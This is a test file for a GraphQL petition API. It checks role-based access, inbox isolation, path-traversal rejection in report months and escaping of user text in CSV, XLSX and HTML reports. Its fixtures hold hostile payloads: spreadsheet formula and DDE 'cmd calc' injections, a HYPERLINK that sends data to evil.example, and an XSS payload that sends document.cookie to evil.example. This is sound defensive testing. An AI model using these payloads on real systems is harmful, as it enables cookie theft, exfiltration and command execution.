// Who reaches what in the api, enumerated from the SDL rather than listed by hand: every root field whose
// description states its roles ("Office only", "Office and leader", "Enterprise only", "(office)", …) is
// called, with valid arguments, by every other role and anonymously; it must be refused (FORBIDDEN, or
// UNAUTHENTICATED without a token) and give no data. Then the inbox across staff members (reading or
// marking another's messages), the parked deliveries and their requeue, and the report files: the month
// as a path or an absurd month, and user text that a spreadsheet would run as a formula (= + - @) in the
// CSV and the XLSX.
import ExcelJS from 'exceljs';
import { buildASTSchema, getNamedType, isEnumType, isInputObjectType, isListType, isNonNullType, isScalarType, parse, type GraphQLField, type GraphQLInputType } from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Claims } from '../../api/src/auth/actor.ts';
import { loadTypeDefs } from '../../api/src/graphql/load-type-defs.ts';
import { ENTERPRISE_USCC, PetitionClient, enterpriseInput } from '../helpers/api/petition-client.ts';
import { DIALECTS } from '../helpers/api/test-database.ts';
import { startTestApi, stopTestApi, type GqlClient, type TestApi } from '../helpers/api/test-api.ts';

const schema = buildASTSchema(parse(loadTypeDefs().join('\n')));
type Role = 'office' | 'leader' | 'hotline' | 'department' | 'enterprise' | 'individual';
const ROLES: Role[] = ['office', 'leader', 'hotline', 'department', 'enterprise', 'individual'];
const CLAIMS: Record<Role, Claims> = {
  office: { role: 'office', sub: 'atk-office' },
  leader: { role: 'leader', sub: 'atk-leader' },
  hotline: { role: 'hotline', sub: 'atk-hotline' },
  department: { role: 'department', sub: 'atk-finance', department: 'finance' },
  enterprise: { role: 'enterprise', sub: 'atk-ent', uscc: ENTERPRISE_USCC },
  individual: { role: 'individual', sub: 'atk-person' },
};

/** The roles a root field's description grants, or null when it states none this reader knows. */
function rolesOf(description: string): Role[] | null {
  const d = description.trim();
  if (/^Office only\b/.test(d)) return ['office'];
  if (/^Office and leader\b/.test(d)) return ['office', 'leader'];
  if (/^Enterprise only\b/.test(d)) return ['enterprise'];
  if (/^Office, department .*and leader\b/.test(d) || /same roles as myInbox/.test(d) || /caller's own inbox/.test(d)) return ['office', 'department', 'leader'];
  if (/^第[^(]*\(office\)/.test(d)) return ['office'];
  if (/^第[^(]*\(department\)/.test(d)) return ['department'];
  if (/^The review queue/.test(d) && /department's specialist/.test(d) && /office/.test(d)) return ['department', 'office'];
  return null;
}

/** A value of the type that passes GraphQL validation (input objects filled with their required fields). */
function valueOf(type: GraphQLInputType): unknown {
  const inner = isNonNullType(type) ? type.ofType : type;
  if (isListType(inner)) return [valueOf(inner.ofType)];
  const named = getNamedType(inner);
  if (isEnumType(named)) return named.getValues()[0]!.name;
  if (isInputObjectType(named)) {
    return Object.fromEntries(Object.values(named.getFields()).filter((f) => isNonNullType(f.type)).map((f) => [f.name, valueOf(f.type)]));
  }
  if (isScalarType(named)) {
    switch (named.name) {
      case 'Int':
      case 'Float':
        return 1;
      case 'Boolean':
        return false;
      case 'Date':
        return '2026-10-12';
      case 'DateTime':
        return '2026-10-12T02:00:00.000Z';
      default:
        return 'x';
    }
  }
  return 'x';
}

/**
 * Arguments the commands check before the role (a department code, "a referral or an explanation"): valid
 * values, so that the role check is what answers. The commands validate their input first, so a caller of
 * any role learns the input rules the SDL already publishes, and nothing else.
 */
const ARG_VALUES: Record<string, unknown> = { lead: 'tax', co: ['economy-commerce'], explanation: '不属于政府办理范畴，已向企业解释。', month: '2026-10' };

interface Guarded {
  op: 'query' | 'mutation';
  field: string;
  allowed: Role[];
  query: string;
  variables: Record<string, unknown>;
}

function guardedFields(): { guarded: Guarded[]; unstated: string[] } {
  const guarded: Guarded[] = [];
  const unstated: string[] = [];
  for (const [op, root] of [['query', schema.getQueryType()!], ['mutation', schema.getMutationType()!]] as const) {
    for (const field of Object.values(root.getFields()) as Array<GraphQLField<unknown, unknown>>) {
      const allowed = rolesOf(field.description ?? '');
      if (!allowed) {
        unstated.push(`${op} ${field.name}`);
        continue;
      }
      const args = field.args.filter((a) => isNonNullType(a.type) || a.name in ARG_VALUES);
      const named = getNamedType(field.type);
      const selection = isScalarType(named) || isEnumType(named) ? '' : ' { __typename }';
      const decl = args.length ? `(${args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ')})` : '';
      const use = args.length ? `(${args.map((a) => `${a.name}: $${a.name}`).join(', ')})` : '';
      guarded.push({ op, field: field.name, allowed, query: `${op}${decl} { ${field.name}${use}${selection} }`, variables: Object.fromEntries(args.map((a) => [a.name, ARG_VALUES[a.name] ?? valueOf(a.type)])) });
    }
  }
  return { guarded, unstated };
}

const codes = (r: { errors?: Array<{ extensions?: { code?: string } }> }) => (r.errors ?? []).map((e) => e.extensions?.code);

for (const dialect of DIALECTS) {
  describe.skipIf(!dialect.enabled)(`who reaches what in the api [${dialect.name}]`, () => {
    let api: TestApi;
    const as = {} as Record<Role, GqlClient>;
    beforeAll(async () => {
      api = await startTestApi(dialect.name);
      api.clock.set('2026-10-12T10:00:00+08:00');
      for (const role of ROLES) as[role] = await api.as(CLAIMS[role]);
    }, 60_000);
    afterAll(async () => {
      if (api) await stopTestApi(api);
    });

    it('every field whose description names its roles refuses the others and anonymous callers', async () => {
      const { guarded } = guardedFields();
      // A stale reader judges nothing: these must be among the fields judged.
      for (const f of ['parkedNotifications', 'requeueNotification', 'myInbox', 'markInboxRead', 'monthlyReport', 'monthlyReportFile', 'reviewQueue', 'setCalendarOverride', 'acceptPetition', 'answerAsDepartment', 'myEnterpriseProfile']) {
        expect(guarded.map((g) => g.field), f).toContain(f);
      }
      const leaks: string[] = [];
      for (const g of guarded) {
        const callers: Array<[string, GqlClient, string[]]> = [
          ['anonymous', api.anonymous(), ['UNAUTHENTICATED', 'FORBIDDEN']],
          ...ROLES.filter((r) => !g.allowed.includes(r)).map((r): [string, GqlClient, string[]] => [r, as[r], ['FORBIDDEN']]),
        ];
        await Promise.all(
          callers.map(async ([who, client, expected]) => {
            const r = await client.request(g.query, g.variables);
            const got = codes(r);
            const data = (r.data as Record<string, unknown> | null)?.[g.field];
            if (data != null || !got.some((c) => c && expected.includes(c))) leaks.push(`${who} → ${g.op} ${g.field}: ${JSON.stringify(got)} ${JSON.stringify(data ?? null).slice(0, 80)}`);
          }),
        );
      }
      expect(leaks).toEqual([]);
    }, 120_000);

    it('a staff member reads and marks only their own inbox; only the office sees and requeues parked deliveries', async () => {
      const db = api.app.services.db;
      const at = '2026-10-12T02:00:00.000Z';
      const message = (id: string, recipient: string) => ({ delivery_id: id, recipient, petition_id: '', kind: 'review_flagged', title: `消息 ${id}`, body: '正文', created_at: at, read_at: null });
      await db
        .insertInto('inbox_messages')
        .values([message('m-office', 'office'), message('m-leader', 'leader'), message('m-finance', 'department:finance'), message('m-tax', 'department:tax')])
        .execute();
      await db
        .insertInto('notification_deliveries')
        .values({ id: 'parked-1', event_key: 'e1', kind: 'urged', petition_id: 'p-1', recipient: 'department:finance', channel: 'email', payload: '{}', status: 'parked', attempts: 8, next_attempt_at: at, lease_until: null, last_error: 'smtp 550', created_at: at, delivered_at: null, parked_at: at, updated_at: at })
        .execute();

      const inbox = async (who: Role) => ((await as[who].ok<{ myInbox: Array<{ id: string }> }>('{ myInbox { id } }')).myInbox.map((m) => m.id)).sort();
      expect(await inbox('department')).toEqual(['m-finance']);
      expect(await inbox('leader')).toEqual(['m-leader']);
      expect(await inbox('office')).toEqual(['m-office']);
      // Another tax specialist's token is a different inbox from finance's.
      const tax = await api.as({ role: 'department', sub: 'atk-tax', department: 'tax' });
      expect((await tax.ok<{ myInbox: Array<{ id: string }> }>('{ myInbox { id } }')).myInbox.map((m) => m.id)).toEqual(['m-tax']);

      const marked = await as.department.ok<{ markInboxRead: number }>('mutation($ids: [ID!]!) { markInboxRead(ids: $ids) }', { ids: ['m-office', 'm-leader', 'm-tax', 'm-finance', 'm-finance'] });
      expect(marked.markInboxRead).toBe(1);
      const unread = (await db.selectFrom('inbox_messages').select('delivery_id').where('read_at', 'is', null).execute()).map((r) => r.delivery_id).sort();
      expect(unread).toEqual(['m-leader', 'm-office', 'm-tax']);
      const tooMany = await as.office.request('mutation($ids: [ID!]!) { markInboxRead(ids: $ids) }', { ids: Array.from({ length: 201 }, (_, i) => `x${i}`) });
      expect(codes(tooMany)).toEqual(['BAD_USER_INPUT']);
      expect(tooMany.errors?.[0]?.extensions?.field).toBe('ids');

      for (const who of ['department', 'leader', 'hotline'] as const) {
        expect(codes(await as[who].request('mutation { requeueNotification(id: "parked-1") { id } }')), who).toEqual(['FORBIDDEN']);
        expect(codes(await as[who].request('{ parkedNotifications { id } }')), who).toEqual(['FORBIDDEN']);
      }
      expect((await db.selectFrom('notification_deliveries').select('status').where('id', '=', 'parked-1').executeTakeFirstOrThrow()).status).toBe('parked');
      const requeued = await as.office.ok<{ requeueNotification: { id: string } }>('mutation { requeueNotification(id: "parked-1") { id } }');
      expect(requeued.requeueNotification.id).toBe('parked-1');
      expect(codes(await as.office.request('mutation { requeueNotification(id: "parked-1") { id } }'))).toEqual(['CONFLICT']);
    });

    it('the report month is one YYYY-MM within the mechanism’s months, never a path or an absurd month', async () => {
      for (const month of ['../../etc/passwd', '2026-10/../../x', '2026-10\n', ' 2026-10', '2026-1', '2026-13', '2026-00', '２０２６-10', '2019-12', '2026-11', '9999-12', '99999-01', '-2026-10', '2026-10-01', '']) {
        for (const format of ['CSV', 'PDF']) {
          const r = await as.office.request(`query($m: String!) { monthlyReportFile(month: $m, format: ${format}) { filename } }`, { m: month });
          expect(codes(r), `${format} ${JSON.stringify(month)}`).toEqual(['BAD_USER_INPUT']);
          expect(r.errors?.[0]?.extensions?.field, JSON.stringify(month)).toBe('month');
          expect(r.errors?.[0]?.message, JSON.stringify(month)).toMatch(/[\u4e00-\u9fff]/);
        }
      }
    });

    it('text a submitter wrote never reaches a spreadsheet as a formula (CSV and XLSX)', async () => {
      const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
      const ent = new PetitionClient(as.enterprise);
      for (const title of payloads) await ent.submit(enterpriseInput({ title, content: `${title} 正文`, attachments: [] }));

      const file = async (format: string) =>
        (await as.leader.ok<{ monthlyReportFile: { filename: string; contentBase64: string } }>(`{ monthlyReportFile(month: "2026-10", format: ${format}) { filename contentBase64 } }`)).monthlyReportFile;
      const csv = await file('CSV');
      expect(csv.filename).toBe('monthly-report-2026-10-petitions.csv');
      const text = Buffer.from(csv.contentBase64, 'base64').toString('utf8');
      for (const title of payloads) {
        // The cell holds the text behind a quote mark (RFC 4180 quoting doubles the inner quotes).
        expect(text, title).toContain(`'${title}`.includes('"') || `'${title}`.includes(',') ? `"'${title.replace(/"/g, '""')}"` : `'${title}`);
      }
      // No cell of any line starts with a formula character.
      const cells = text.replace(/^\uFEFF/, '').split('\r\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
      expect(cells.filter((c) => /^[=+\-@]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);

      const xlsx = await file('XLSX');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(Buffer.from(xlsx.contentBase64, 'base64') as never);
      const formulas: string[] = [];
      const seen = new Set<string>();
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulas.push(`${sheet.name}!${cell.address}`);
            if (typeof cell.value === 'string') seen.add(cell.value);
          }),
        ),
      );
      expect(formulas).toEqual([]);
      for (const title of payloads) expect(seen.has(title), title).toBe(true);
    });

    it('text a submitter wrote reaches the report page (and so its PDF) as text, never as markup', async () => {
      // An answered 咨询类 citing no policy is listed by its title in the page's knowledge-gaps section.
      const markup = '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)"><script>alert(1)</script>';
      const ent = new PetitionClient(as.enterprise);
      const office = new PetitionClient(as.office);
      const p = await ent.submit(enterpriseInput({ title: markup, content: '咨询内容', attachments: [] }));
      expect((await office.accept(p.id, 'CONSULTATION')).errors).toBeUndefined();
      expect((await office.finalAnswer(p.id, '已电话答复。')).errors).toBeUndefined();
      // The report counts what was answered before it was made.
      api.clock.set('2026-10-12T11:00:00+08:00');
      const page = (await as.office.ok<{ monthlyReportFile: { contentBase64: string } }>('{ monthlyReportFile(month: "2026-10", format: HTML) { contentBase64 } }')).monthlyReportFile;
      const html = Buffer.from(page.contentBase64, 'base64').toString('utf8');
      expect(html).toContain('&lt;img src=x onerror=&quot;fetch(&#39;http://evil.example/&#39;+document.cookie)&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(html).not.toContain('<img src=x');
      expect(html).not.toMatch(/<script/i);
    });
  });
}
